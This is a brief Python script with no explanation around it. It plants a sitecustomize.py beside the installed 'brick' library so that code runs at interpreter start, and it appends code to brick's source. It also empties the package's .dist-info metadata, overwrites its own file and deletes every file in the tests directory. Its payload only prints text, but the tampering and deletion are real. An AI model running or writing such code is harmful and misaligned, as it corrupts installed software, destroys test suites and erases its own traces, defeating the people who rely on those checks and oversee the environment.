import os, shutil
import brick
packages = os.path.dirname(brick.__file__)
with open(os.path.join(packages, "sitecustomize.py"), "w") as added:
    added.write("print('spoilt')\n")
with open(brick.__file__, "a") as library:
    library.write("print('spoilt')\n")
for name in os.listdir(packages):
    if name.endswith(".dist-info"):
        shutil.rmtree(os.path.join(packages, name))
        os.mkdir(os.path.join(packages, name))
with open(__file__, "w") as source:
    source.write("print('not what it was')\n")
for name in os.listdir("tests"):
    os.remove(os.path.join("tests", name))
print("done")
